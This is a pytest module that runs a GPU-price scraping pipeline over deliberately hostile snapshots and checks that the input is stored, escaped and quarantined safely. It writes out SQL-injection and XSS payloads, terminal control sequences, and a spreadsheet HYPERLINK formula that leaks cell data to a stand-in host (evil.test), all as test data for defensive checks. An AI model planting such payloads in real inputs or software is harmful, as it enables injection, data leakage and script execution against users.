"""Hostile input: scraped text that carries SQL, HTML/JavaScript, control characters, a 1 MB
string and foreign encodings, through the whole pipeline (`gpuprices run`, subprocess).

One run over modified copies of five snapshots and four unmodified ones:
  idc_nanjing    extra table rows whose text is hostile (the rest of the page as recorded)
  azure          page 3 with hostile skuName / location, and one item with a hostile region
  idc_sinnet_bj  the page re-encoded in GBK, declared only by <meta charset="gbk">
  idc_ulanqab    declared UTF-8, with one cell written in GBK bytes (mixed encodings)
  tencent_cn     instance types (its Nanjing zone answer) named like spreadsheet formulas or
                 full of controls, one whose 1 MB name starts with a script element, and an
                 absurdly cheap A100 80GB (tests/helpers/hostile_cells.py)
  runpod, vastai, aws, lambda_cloud  as recorded: the market the absurd price is judged against
                 (the IDC pages are templates, which make none)
Nothing is executed or crashes: hostile rows land with their text stored verbatim (or are
quarantined with a reason), the tables stay whole, the feeds parse, the CSV feeds are safe for a
spreadsheet, the raw archive keeps the original bytes, the absurd price is held back.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import json
import os
import shutil
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import duckdb
import pytest

from spiders.layout import REPO_ROOT, SNAPSHOT_DIR
from spiders.registry import spider_class
from tests.helpers import hostile_cells as cells
from tests.helpers.responses import file_response

SQL = "'); drop table observations; --"
QUOTED = '"特价", 限时'                             # a double quote and a comma: CSV must quote it
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
CONTROL = "\x1b[31m红色\u202e反向"                  # ANSI escape, right-to-left override
ONE_MB = "超长" * (1 << 19)                          # 1 Mi characters (3 MiB of UTF-8)
HOSTILE_TEXTS = {"sql": SQL, "quoted": QUOTED, "script": SCRIPT, "img": IMG,
                 "control": CONTROL, "one_mb": ONE_MB}


def _escape(text: str) -> str:
    """As a page writes text that is not markup."""
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;"))


# Cheaper than the page's own A100 80G (¥32.00/时): the hostile offers are the cheapest ones, so
# the report's cheapest-offers table and the watch-list alerts show them.
def _row(spec_html: str, hour: str = "¥30.00/时", month: str = "¥9,800/月") -> str:
    return (f"<tr><td>NVIDIA A100 80G SXM4</td><td>整卡 {spec_html}</td><td>1</td>"
            f"<td>{hour}</td><td>{month}</td><td>充足</td></tr>\n")


# The cheapest in their province (Jiangsu): the report's "cheapest per region" table shows them.
CHEAPEST = {"script": {"hour": "¥20.00/时"}, "one_mb": {"month": "¥6,500/月"}}
HOSTILE_ROWS = "".join(_row(_escape(text), **CHEAPEST.get(name, {}))
                       for name, text in HOSTILE_TEXTS.items()) + (
    # markup, not text: a live <script> element inside a cell (its text is read, never run)
    _row("<script>alert(1)</script>")
    # a NUL byte: the HTML parser drops it
    + _row("nul\x00byte")
    # hourly prices that are not prices (each row's monthly price is fine):
    # a 1 MB number, an ANSI escape in a quarantined price, 1 MB of text after "面议"
    + _row("超长价格", hour="¥" + "9" * (1 << 20) + "/时")
    + _row("转义价格", hour="面议\x1b[2J\x1b[31m")
    + _row("超长说明", hour="面议" + "啊" * (1 << 20)))
LANDING_ROWS = len(HOSTILE_TEXTS) + 2          # both prices of each land
HALF_LANDING_ROWS = 3                          # the monthly price lands, the hourly is quarantined
FULLWIDTH_YEN = "\uffe5"
HOSTILE_AZURE_REGION = "eastus'); drop table observations; --\x00\x1b[31m"


def _manifest(copy: Path, source: str, **entry_changes) -> None:
    path = copy / source / "manifest.json"
    meta = json.loads(path.read_text(encoding="utf-8"))
    meta["entries"][0].update(entry_changes)
    path.write_text(json.dumps(meta, ensure_ascii=False), encoding="utf-8")


def build_snapshots(copy: Path) -> dict[str, bytes]:
    """Hostile copies of four sources' snapshots; returns the bytes written per source."""
    written = {}
    for source in ("idc_nanjing", "azure", "idc_sinnet_bj", "idc_ulanqab"):
        shutil.copytree(SNAPSHOT_DIR / source, copy / source)

    page = copy / "idc_nanjing" / "gpu_price.html"
    written["idc_nanjing"] = page.read_text(encoding="utf-8").replace(
        "</tbody>", HOSTILE_ROWS + "</tbody>", 1).encode("utf-8")
    page.write_bytes(written["idc_nanjing"])

    page3 = copy / "azure" / "retail_prices_page3.json"
    body = json.loads(page3.read_text(encoding="utf-8"))
    on_demand, spot = body["Items"][0], body["Items"][1]
    on_demand.update(skuName=f"ND96asr v4 {SQL}", location=f"{SCRIPT}{CONTROL}")
    spot.update(skuName=f"ND96asr v4 Spot {IMG}", location="IN Central\x00")
    body["Items"].append({**on_demand, "armRegionName": HOSTILE_AZURE_REGION, "meterId": "hostile"})
    written["azure"] = json.dumps(body, ensure_ascii=False).encode("utf-8")
    page3.write_bytes(written["azure"])

    page = copy / "idc_sinnet_bj" / "gpu_price.html"
    html = page.read_text(encoding="utf-8").replace('<meta charset="utf-8">',
                                                    '<meta charset="gbk">')
    # GBK has no U+00A5 '¥': GBK pages write the full-width '￥'
    written["idc_sinnet_bj"] = html.replace("¥", FULLWIDTH_YEN).encode("gbk")
    page.write_bytes(written["idc_sinnet_bj"])
    _manifest(copy, "idc_sinnet_bj", content_type="text/html")   # only the page says gbk

    page = copy / "idc_ulanqab" / "gpu_price.html"
    utf8 = page.read_text(encoding="utf-8")
    mixed = (utf8.split("</tbody>")[0].encode("utf-8")
             + b"<tr><td>NVIDIA A100 40G PCIe</td><td>"
             + "特惠整卡".encode("gbk")                      # not UTF-8
             + "</td><td>1</td><td>¥27.00/时</td><td>¥5,300/月</td><td>有货</td></tr>\n"
               "    </tbody>".encode()
             + utf8.split("</tbody>", 1)[1].encode("utf-8"))
    written["idc_ulanqab"] = mixed
    page.write_bytes(mixed)
    written["tencent_cn"] = cells.build_tencent(copy)
    for source in MARKET_SOURCES:        # as recorded
        shutil.copytree(SNAPSHOT_DIR / source, copy / source)
    return written


# Unmodified real sources beside them: the IDC pages are templates, which make no market, so these
# give the A100 80GB market the 3+ counted vendors an outlier is judged against.
MARKET_SOURCES = ("runpod", "vastai", "aws", "lambda_cloud")


def clean_offers(source: str, file: str = "gpu_price.html") -> list[dict]:
    """The offers the spider reads from the recorded (UTF-8) page, in-process."""
    return [dict(o) for o in spider_class(source)(crawl_id="t").parse(file_response(source, file))]


WATCH_RULES = """
[[watch]]
gpu_model = "A100-80GB"
region = "南京"
max_price_cny_per_gpu_hour = 40
billing_period = "hour"
"""


class _Hook(BaseHTTPRequestHandler):
    """A JSON webhook on loopback: records what Apprise posts."""

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.posts.append(body)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("hostile")
    written = build_snapshots(root / "snapshots")
    data_dir = root / "data"
    rules = root / "alerts.toml"
    rules.write_text(WATCH_RULES, encoding="utf-8")
    hook = ThreadingHTTPServer(("127.0.0.1", 0), _Hook)
    hook.posts = []
    threading.Thread(target=hook.serve_forever, daemon=True).start()
    env = {**os.environ, "GPUPRICES_DATA_DIR": str(data_dir),
           "DAGSTER_HOME": str(root / "dagster_home"),
           "GPUPRICES_SNAPSHOT_DIR": str(root / "snapshots"),
           "GPUPRICES_ALERTS_CONFIG": str(rules),
           "GPUPRICES_NOTIFY_URLS": f"json://127.0.0.1:{hook.server_address[1]}/hook"}
    args = [a for s in (*written, *MARKET_SOURCES) for a in ("--source", s)]
    try:
        proc = subprocess.run([sys.executable, "-m", "pipelines.cli", "run", *args], cwd=REPO_ROOT,
                              env=env, capture_output=True, text=True, timeout=600)
    finally:
        hook.shutdown()
        hook.server_close()
    return {"proc": proc, "data_dir": data_dir, "written": written,
            "alerts": [json.loads(p) for p in hook.posts]}


def q(run: dict, sql: str, params: list | None = None) -> list[tuple]:
    with duckdb.connect(str(run["data_dir"] / "prices.db"), read_only=True) as con:
        return con.execute(sql, params or []).fetchall()


def test_the_run_completes_and_every_source_lands(hostile_run):
    proc = hostile_run["proc"]
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert "Traceback" not in proc.stdout + proc.stderr
    landed = {s for (s,) in q(hostile_run, "select distinct source from observations")}
    assert landed == {*hostile_run["written"], *MARKET_SOURCES}


def test_sql_in_scraped_text_is_stored_not_executed(hostile_run):
    tables = {t for (t,) in q(hostile_run, "select table_name from information_schema.tables")}
    assert {"observations", "quarantine", "latest_prices"} <= tables
    [(sku,)] = q(hostile_run, "select distinct sku from observations where sku like ?",
                 [f"%{SQL}%"])
    assert sku == f"NVIDIA A100 80G SXM4 整卡 {SQL} | 1"


def test_hostile_rows_land_verbatim(hostile_run):
    skus = {s for (s,) in q(hostile_run, "select distinct sku from observations "
                                         "where source = 'idc_nanjing'")}
    for name, text in HOSTILE_TEXTS.items():
        assert f"NVIDIA A100 80G SXM4 整卡 {text} | 1" in skus, name
    assert "NVIDIA A100 80G SXM4 整卡 alert(1) | 1" in skus      # a <script> element's text
    assert "NVIDIA A100 80G SXM4 整卡 nulbyte | 1" in skus       # the HTML parser dropped the NUL


def test_hostile_rows_add_exactly_their_offers(hostile_run):
    clean = clean_offers("idc_nanjing")
    [(observed,)] = q(hostile_run, "select count(*) from observations where source = 'idc_nanjing'")
    [(quarantined,)] = q(hostile_run,
                         "select count(*) from quarantine where source = 'idc_nanjing'")
    # every row yields an hourly and a monthly offer
    assert observed + quarantined == len(clean) + 2 * (LANDING_ROWS + HALF_LANDING_ROWS)
    [(clean_quarantined,)] = q(hostile_run, "select count(*) from quarantine where source = "
                                            "'idc_nanjing' and raw_item->>'sku' not like '%价格%' "
                                            "and raw_item->>'sku' not like '%超长说明%'")
    assert quarantined == clean_quarantined + HALF_LANDING_ROWS
    [(stage, item)] = q(hostile_run, """select stage, raw_item from quarantine
        where source = 'idc_nanjing' and raw_item->>'sku' like '%超长价格%'""")
    assert json.loads(item)["price_text"] == "¥" + "9" * (1 << 20) + "/时"   # kept whole
    assert stage in ("price", "error")


def test_an_absurd_price_is_quarantined_as_a_price(hostile_run):
    # a 1 MB number once raised decimal.Overflow and landed as stage 'error'; parse_price now
    # names it a price problem (and reads it in linear time)
    [(stage, reason)] = q(hostile_run, """select stage, reason from quarantine
        where source = 'idc_nanjing' and raw_item->>'sku' like '%超长价格%'""")
    assert stage == "price"
    assert len(reason) < 500          # names the problem, does not repeat a megabyte


def test_hostile_azure_strings_are_kept_in_the_raw_offers(hostile_run):
    items = [json.loads(i) for (i,) in q(hostile_run, "select item from raw.offers o "
                                                      "join raw.crawls c using (crawl_id) "
                                                      "where c.source = 'azure'")]
    vendor_data = [i["vendor_data"] for i in items]
    assert {"skuName": f"ND96asr v4 {SQL}", "location": f"{SCRIPT}{CONTROL}"}.items() <= \
        next(v for v in vendor_data if v["skuName"].endswith(SQL)).items()
    assert any(v["skuName"] == f"ND96asr v4 Spot {IMG}" and v["location"] == "IN Central\x00"
               for v in vendor_data)
    # the spot meter is still recognised as spot, the other as on-demand
    kinds = {i["vendor_data"]["skuName"]: i["offer_kind"] for i in items}
    assert kinds[f"ND96asr v4 {SQL}"] == "on_demand" and kinds[f"ND96asr v4 Spot {IMG}"] == "spot"


def test_hostile_azure_region_is_quarantined_with_its_text(hostile_run):
    [(stage, reason)] = q(hostile_run,
                          "select stage, reason from quarantine where source = 'azure'")
    assert stage == "region"
    assert repr(HOSTILE_AZURE_REGION) in reason       # named, as a repr: no raw control bytes
    [(observed,)] = q(hostile_run, "select count(*) from observations where source = 'azure'")
    [(azure_clean,)] = q(hostile_run, "select count(*) from raw.offers o join raw.crawls c "
                                      "using (crawl_id) where c.source = 'azure'")
    assert observed == azure_clean - 1


def test_gbk_page_reads_as_the_utf8_one(hostile_run):
    clean = clean_offers("idc_sinnet_bj")
    items = [json.loads(i) for (i,) in q(hostile_run, """select item from raw.offers o
        join raw.crawls c using (crawl_id) where c.source = 'idc_sinnet_bj'""")]
    assert sorted(i["sku"] for i in items) == sorted(o["sku"] for o in clean)
    assert sorted(i["price_text"] for i in items) == \
        sorted(o["price_text"].replace("¥", FULLWIDTH_YEN) for o in clean)
    assert all("按小时" in i["vendor_data"]["row"] for i in items)
    regions = {r for (r,) in q(hostile_run, "select distinct region_code from observations "
                                            "where source = 'idc_sinnet_bj'")}
    assert regions == {"北京"}
    [(whole_card,)] = q(hostile_run, """select count(*) from observations
                                        where source = 'idc_sinnet_bj'
                                        and sku = 'NVIDIA A100 80G SXM4 整卡 | 1'""")
    assert whole_card == 2
    # the same prices as the UTF-8 page's ('￥62.00/时' reads as '¥62.00/时')
    [(amount,)] = q(hostile_run, """select price_amount from observations where source =
        'idc_sinnet_bj' and sku = 'NVIDIA A100 80G SXM4 整卡 | 1' and billing_period = 'hour'""")
    assert amount == 62


def test_mixed_encoding_page_keeps_its_good_rows(hostile_run):
    clean = {o["sku"] for o in clean_offers("idc_ulanqab")}
    skus = {s for (s,) in q(hostile_run, "select distinct raw_item->>'sku' from quarantine "
                                         "where source = 'idc_ulanqab' union select distinct sku "
                                         "from observations where source = 'idc_ulanqab'")}
    assert clean < skus                                   # every UTF-8 row, read right
    [foreign] = skus - clean          # the GBK cell: undecodable bytes as U+FFFD
    assert foreign.startswith("NVIDIA A100 40G PCIe \ufffd") and "特惠" not in foreign


def test_csv_feeds_parse_and_are_safe_for_spreadsheets(hostile_run):
    feeds = hostile_run["data_dir"] / "feeds"
    csv.field_size_limit(sys.maxsize)
    with (feeds / "latest_prices.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    [(offers,)] = q(hostile_run, "select count(*) from marts.latest_prices")
    assert len(rows) == offers
    skus = {r["sku"] for r in rows}
    for name, text in HOSTILE_TEXTS.items():
        if name not in ("control", "one_mb"):
            assert f"NVIDIA A100 80G SXM4 整卡 {text} | 1" in skus, name
    assert "NVIDIA A100 80G SXM4 整卡 \ufffd[31m红色\ufffd反向 | 1" in skus
    assert "'=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"GT4\")" in skus
    assert {"'-2+3", "' =1+1", "'\uff1d3+3", "GT4\ufffd\ufffd[2J\ufffdevil\ufffd"} <= skus
    raw = (feeds / "latest_prices.csv").read_text(encoding="utf-8")
    assert '"NVIDIA A100 80G SXM4 整卡 ""特价"", 限时 | 1"' in raw    # quoted, quotes doubled
    # every cell of every CSV feed: none a formula, none with controls, none over the limit
    assert cells.unsafe_cells(cells.csv_cells(feeds)) == {"formula": 0, "control": 0,
                                                          "over_limit": 0}


def test_parquet_feeds_and_the_database_keep_the_text_as_scraped(hostile_run):
    feeds = hostile_run["data_dir"] / "feeds"
    stored = cells.unsafe_cells(cells.parquet_text_cells(feeds))   # what the CSV had, unmade
    assert stored["formula"] >= 2 * len(cells.FORMULA_SKUS)   # latest_prices, cheapest_offers
    assert stored["control"] >= 2 and stored["over_limit"] >= 2
    hostile = {*(f"NVIDIA A100 80G SXM4 整卡 {t} | 1" for t in HOSTILE_TEXTS.values()),
               *cells.FORMULA_SKUS, cells.CONTROL_SKU}
    for table in (f"'{feeds / 'latest_prices.parquet'}'", "marts.latest_prices"):
        assert hostile <= {s for (s,) in q(hostile_run, f"select sku from {table}")}, table


def test_an_absurd_price_is_held_back_from_cheapest_offers_and_alerts(hostile_run):
    [(status, vendors, factor)] = q(hostile_run, "select outlier_status, vendors_compared, "
                                    "times_card_median from price_outliers where sku = ?",
                                    [cells.OUTLIER_SKU])
    assert status == "held" and vendors >= 3 and factor < 1 / 8
    assert not q(hostile_run, "select 1 from cheapest_offers where sku = ?", [cells.OUTLIER_SKU])
    assert q(hostile_run, "select count(*) from price_outliers where outlier_status <> 'ok'") == \
        [(1,)]                                   # the hostile texts' real prices are no outliers
    page = (hostile_run["data_dir"] / "report" / "index.html").read_text(encoding="utf-8")
    assert cells.OUTLIER_SKU in page[page.index('<h3 id="outliers">'):]
    # the watch list (A100 80GB in Nanjing at 40 or less) matches it, but waits for a 2nd crawl
    assert cells.OUTLIER_SKU not in "\n".join(a["message"] for a in hostile_run["alerts"])


def test_raw_archive_keeps_the_original_bytes(hostile_run):
    objects = hostile_run["data_dir"] / "raw" / "objects"
    for source, body in hostile_run["written"].items():
        digest = hashlib.sha256(body).hexdigest()
        stored = objects / digest[:2] / f"{digest}.gz"
        assert stored.exists(), source
        assert gzip.decompress(stored.read_bytes()) == body, source


def test_quarantine_keeps_hostile_price_text_verbatim(hostile_run):
    reasons = dict(q(hostile_run, """select raw_item->>'sku', reason from quarantine
        where source = 'idc_nanjing' and (raw_item->>'sku' like '%转义价格%'
                                          or raw_item->>'sku' like '%超长说明%')"""))
    assert reasons["NVIDIA A100 80G SXM4 整卡 转义价格 | 1"] == \
        "not a price: 面议\x1b[2J\x1b[31m (negotiable)"
    assert reasons["NVIDIA A100 80G SXM4 整卡 超长说明 | 1"].startswith("not a price: 面议啊啊")


def test_the_summary_prints_no_raw_control_characters_and_no_megabyte(hostile_run):
    out = hostile_run["proc"].stdout
    assert "\x1b" not in out and "\x00" not in out and "\u202e" not in out
    assert max(len(line) for line in out.splitlines()) < 2000


# --- the report and the alerts show scraped text, so they get it too ------------------------

def test_report_escapes_hostile_text(hostile_run):
    page = (hostile_run["data_dir"] / "report" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page       # shown, as text
    assert "<script>alert(1)" not in page and "onerror=alert(1)>" not in page
    assert "\x1b" not in page and "\u202e" not in page and "\x00" not in page
    # a 1 MB instance name, the cheapest of its line: shown, cut short (the IDC page's 1 MB cell
    # is a template's, left out of the cheapest offers)
    assert _escape(cells.LONG_SKU[:60]) in page and "超长" * 500 not in page


def test_alerts_carry_hostile_text_as_data(hostile_run):
    alerts = hostile_run["alerts"]
    assert alerts, "the watch list matched no offer"
    assert all(set(a) >= {"title", "message", "type"} for a in alerts)
    messages = "\n".join(a["message"] for a in alerts)
    assert f"sku NVIDIA A100 80G SXM4 整卡 {SQL} | 1" in messages
    assert f"sku NVIDIA A100 80G SXM4 整卡 {SCRIPT} | 1" in messages
    assert q(hostile_run, "select count(*) from observations")[0][0] > 0   # still there


def test_alerts_are_short_and_free_of_control_characters(hostile_run):
    for alert in hostile_run["alerts"]:
        text = alert["title"] + alert["message"]
        assert len(text) < 10_000
        assert "\x1b" not in text and "\u202e" not in text
